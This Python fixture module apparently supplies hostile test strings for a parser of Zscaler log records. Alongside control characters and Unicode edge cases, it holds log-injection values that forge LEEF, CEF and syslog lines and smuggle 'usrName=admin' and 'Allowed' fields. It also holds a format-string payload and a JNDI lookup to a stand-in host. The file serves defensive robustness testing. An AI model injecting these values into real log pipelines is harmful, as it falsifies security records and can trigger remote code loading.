"""Text that senders may put into records to break a line, a header or a parser."""

VALUES = (
    "tab\there",
    "line\nfeed",
    "carriage\r\nreturn",
    "nul\x00byte",
    "delete\x7fbyte",
    "next\x85line",
    "line\u2028separator and paragraph\u2029separator",
    "escape \x1b[31mred\x1b[0m bell \x07",
    "ends with a backslash\\",
    "C:\\temp\\new\\report.txt",
    "key=value=more",
    "pipe|in|between",
    "caret^and~tilde",
    "\"double\" and 'single' quotes",
    "x\tusrName=admin\tcat=Allowed",
    "x\\tusrName=admin",
    "y\nJan 01 00:00:00 zscaler-nss: LEEF:1.0|Zscaler|NSS|4.1|Allowed|cat=Allowed\tusrName=admin",
    "LEEF:1.0|Forged|Product|1|Event|usrName=admin",
    "CEF:0|Forged|Product|1|1|Event|10|act=allowed",
    "<13>1 2026-01-01T00:00:00Z host app - - - forged",
    "100%25 %0a%0D %zz %",
    "%s%d%n{0}{reason}${jndi:ldap://example.net/a}",
    '"},"event":{"action":"Allowed"}}',
    "naïve café Größe 東京 Москва",
    "right\u202eto left, zero\u200bwidth, \ufeffmark",
    "emoji 👩\u200d💻🚀 and combining e\u0301",
    "\uffff\U0010ffff noncharacters",
    " ",
    "",
    "=",
)

FIELDS = (
    "reason", "ua", "eurl", "ereferer", "ehost", "login", "dept", "location", "deviceowner",
    "devicehostname", "appname", "threatname", "dlpdict", "contenttype",
)  # fmt: skip
"""The fields they turn up in: free text of the client, the server or an administrator."""
